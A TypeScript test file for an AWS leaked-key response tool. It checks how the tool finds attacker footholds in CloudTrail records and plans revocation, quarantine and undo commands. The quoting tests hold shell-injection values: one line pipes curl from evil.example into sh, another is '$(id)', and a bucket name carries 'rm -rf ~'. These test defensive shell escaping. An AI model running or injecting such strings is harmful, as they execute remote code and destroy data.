import { sh } from '../../../lambdas/footholds/commands';
import { findFootholds } from '../../../lambdas/footholds/find';
import { planFootholdContainment } from '../../../lambdas/footholds/plan';
import { policySize } from '../../../lambdas/shared/policies';
import { ACCOUNT_ID, REVOKE_BEFORE } from '../helpers';
import { EXPECTED_QUARANTINE_DOCUMENT } from '../quarantine-literals';
import { incident, protection, QUARANTINE_ARN } from './harness';
import { calls, iam, identities, record } from './trail';

const config = { dryRun: false, quarantinePolicyArn: QUARANTINE_ARN, stopLaunchedInstances: false, revokeBefore: REVOKE_BEFORE };
const plan = (records: unknown[]) => planFootholdContainment(findFootholds(incident, records).footholds, incident, config, protection);

describe('planFootholdContainment: what is only reported', () => {
  it('reports trust and permission changes with the command that undoes each, open unless the principal is one the key created', () => {
    const actions = plan([
      calls.createUser('support-admin'),
      iam('AttachUserPolicy', { userName: 'support-admin', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }),
      iam('AttachRolePolicy', { roleName: 'deploy', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }),
      iam('PutRolePolicy', { roleName: 'deploy', policyName: 'extra', policyDocument: '{}' }),
      iam('UpdateAssumeRolePolicy', { roleName: 'deploy', policyDocument: '{}' }),
      iam('CreatePolicyVersion', { policyArn: `arn:aws:iam::${ACCOUNT_ID}:policy/ci`, policyDocument: '{}', setAsDefault: true }, { policyVersion: { versionId: 'v3' } }),
      iam('SetDefaultPolicyVersion', { policyArn: `arn:aws:iam::${ACCOUNT_ID}:policy/ci`, versionId: 'v3' }),
    ]).filter((a) => a.action === 'report');

    expect(actions.map((a) => [a.open, a.undo])).toEqual([
      [false, 'aws iam detach-user-policy --user-name support-admin --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'],
      [true, 'aws iam detach-role-policy --role-name deploy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'],
      [true, 'aws iam delete-role-policy --role-name deploy --policy-name extra (or put back its previous document, if it replaced one)'],
      [true, 'aws iam update-assume-role-policy --role-name deploy --policy-document file://previous-trust-policy.json (the previous trust policy is not in the record: take it from AWS Config or your infrastructure code)'],
      [true, `aws iam set-default-policy-version --policy-arn arn:aws:iam::${ACCOUNT_ID}:policy/ci --version-id <the previous default version>; then aws iam delete-policy-version --policy-arn arn:aws:iam::${ACCOUNT_ID}:policy/ci --version-id v3`],
      [true, `aws iam set-default-policy-version --policy-arn arn:aws:iam::${ACCOUNT_ID}:policy/ci --version-id <the previous default version: see aws iam list-policy-versions --policy-arn arn:aws:iam::${ACCOUNT_ID}:policy/ci>`],
    ]);
    expect(actions[1].description).toBe('AttachRolePolicy on role deploy (policyArn: arn:aws:iam::aws:policy/AdministratorAccess): not reverted automatically, check it and undo it if it is not yours');
  });

  it('reports functions, key pairs, ingress, bucket policies and SES identities with the command that undoes each, in their region', () => {
    const undo = plan([
      record({ eventSource: 'lambda.amazonaws.com', eventName: 'CreateFunction20150331', awsRegion: 'eu-west-1', requestParameters: { functionName: 'miner-relay' } }),
      record({ eventSource: 'ec2.amazonaws.com', eventName: 'CreateKeyPair', awsRegion: 'eu-west-1', requestParameters: { keyName: 'backdoor' } }),
      record({
        eventSource: 'ec2.amazonaws.com', eventName: 'AuthorizeSecurityGroupIngress', awsRegion: 'eu-west-1',
        requestParameters: { groupId: 'sg-0abc' }, responseElements: { securityGroupRuleSet: { items: [{ securityGroupRuleId: 'sgr-01' }, { securityGroupRuleId: 'sgr-02' }] } },
      }),
      record({ eventSource: 's3.amazonaws.com', eventName: 'PutBucketPolicy', requestParameters: { bucketName: 'company-data', bucketPolicy: {} } }),
      record({ eventSource: 'ses.amazonaws.com', eventName: 'VerifyEmailIdentity', awsRegion: 'us-west-2', requestParameters: { emailAddress: 'billing@example.net' } }),
      record({ eventSource: 'ses.amazonaws.com', eventName: 'CreateEmailIdentity', requestParameters: { emailIdentity: 'example.net' } }),
    ]).map((a) => [a.open, a.undo]);

    expect(undo).toEqual([
      [true, 'aws lambda get-function --region eu-west-1 --function-name miner-relay (keep its code as evidence), then aws lambda delete-function --region eu-west-1 --function-name miner-relay'],
      [true, 'aws ec2 delete-key-pair --region eu-west-1 --key-name backdoor'],
      [true, 'aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id sg-0abc --security-group-rule-ids sgr-01 sgr-02'],
      [true, 'aws s3api delete-bucket-policy --bucket company-data (or put back the previous policy, if it replaced one)'],
      [true, 'aws ses delete-identity --region us-west-2 --identity billing@example.net'],
      [true, 'aws sesv2 delete-email-identity --region us-east-1 --email-identity example.net'],
    ]);
  });
});

describe('planFootholdContainment: what a human must do', () => {
  it('asks for the key by hand when the record does not say which one was created, and never guesses', () => {
    const actions = plan([iam('CreateAccessKey', { userName: 'support-admin' }, null)]);

    expect(actions.map((a) => [a.action, a.open, a.command])).toEqual([['action-required', true, 'aws iam list-access-keys --user-name support-admin']]);
  });

  it('sends a root access key the leaked key created to the root user', () => {
    const actions = plan([
      iam('CreateAccessKey', {}, { accessKey: { accessKeyId: 'AKIAROOTKEYEXAMPLE01', status: 'Active' } }, {
        userIdentity: { type: 'Root', principalId: ACCOUNT_ID, arn: `arn:aws:iam::${ACCOUNT_ID}:root`, accountId: ACCOUNT_ID, accessKeyId: incident.accessKeyId },
      }),
    ]);

    expect(actions.map((a) => [a.action, a.description])).toEqual([
      ['action-required', 'ACTION REQUIRED: a root access key (AKIAROOTKEYEXAMPLE01) was created: only the root user can deactivate it (sign in as root, Security credentials)'],
    ]);
  });

  it("leaves a created role open when the record does not show whom it trusts, and not when it trusts only this account", () => {
    const trustOpen = (document: unknown) =>
      plan([iam('CreateRole', { roleName: 'r', assumeRolePolicyDocument: document })]).filter((a) => a.action === 'action-required').map((a) => a.description);

    expect(trustOpen('{not json')).toEqual(['role r has a trust policy the record does not show: new sessions are quarantined, not denied; delete the role once its evidence is kept']);
    expect(trustOpen(undefined)).toHaveLength(1);
    expect(trustOpen({ Statement: [{ Effect: 'Allow', Principal: { AWS: [`arn:aws:iam::${ACCOUNT_ID}:root`, ACCOUNT_ID] } }] })).toEqual([]);
    expect(trustOpen({ Statement: { Effect: 'Allow', Principal: '*' } })).toEqual(['role r trusts *: new sessions are quarantined, not denied; delete the role once its evidence is kept']);
  });

  it('plans each action once when two footholds need it (a user created, then its console password)', () => {
    const ids = plan([calls.createUser('support-admin'), calls.createLoginProfile('support-admin'), calls.createLoginProfile('support-admin')]).map((a) => a.id);

    expect(ids).toEqual(['deactivate-user-keys support-admin', 'revoke-user-sessions support-admin', 'quarantine-user support-admin', 'delete-login-profile support-admin']);
  });

  it('puts credentials first (each a way in by itself), then sessions, then what only people can do', () => {
    const actions = plan([
      record({ eventSource: 'ec2.amazonaws.com', eventName: 'CreateKeyPair', requestParameters: { keyName: 'kp' } }),
      calls.runInstances('eu-west-1', 'i-0miner0000000001', 'c5.24xlarge'),
      calls.sts('AssumeRole', { roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/deploy`, roleSessionName: 'x' }, 'ASIAY34FZKBOROLESES1'),
      calls.createLoginProfile('alice'),
      calls.createAccessKey('alice', 'AKIAFORALICE00000001'),
    ]).map((a) => a.action);

    expect(actions).toEqual(['deactivate-key', 'revoke-role-sessions', 'delete-login-profile', 'action-required', 'report']);
  });

  it('plans nothing for what another caller did', () => {
    expect(plan([calls.createUser('new-hire', { userIdentity: identities.alice() }), calls.createLoginProfile('new-hire', { userIdentity: identities.alice() })])).toEqual([]);
  });
});

describe('commands are safe to paste', () => {
  it('quotes any value a record carries that is not plain, so it cannot run anything', () => {
    expect(sh('support-admin')).toBe('support-admin');
    expect(sh("x'; curl evil.example | sh; echo '")).toBe(`'x'\\''; curl evil.example | sh; echo '\\'''`);
    expect(sh('$(id)')).toBe("'$(id)'");
  });

  it('puts the quoted name in the command', () => {
    const [action] = plan([record({ eventSource: 's3.amazonaws.com', eventName: 'PutBucketPolicy', requestParameters: { bucketName: 'data;rm -rf ~' } })]);

    expect(action.undo).toBe("aws s3api delete-bucket-policy --bucket 'data;rm -rf ~' (or put back the previous policy, if it replaced one)");
  });
});

describe('the quarantine deny for a role', () => {
  it("is the stack's quarantine document, and fits the 10,240 characters a role has for inline policies, beside the revoke", () => {
    const [, quarantine] = plan([iam('CreateRole', { roleName: 'r', assumeRolePolicyDocument: '{"Statement":[]}' })]);

    expect(quarantine.document?.name).toBe('ExposedKeyResponder-Quarantine');
    expect(JSON.parse(quarantine.document?.json ?? '')).toEqual(EXPECTED_QUARANTINE_DOCUMENT);
    expect(policySize(quarantine.document?.json ?? '')).toBeLessThan(10_240 - 300);
  });
});
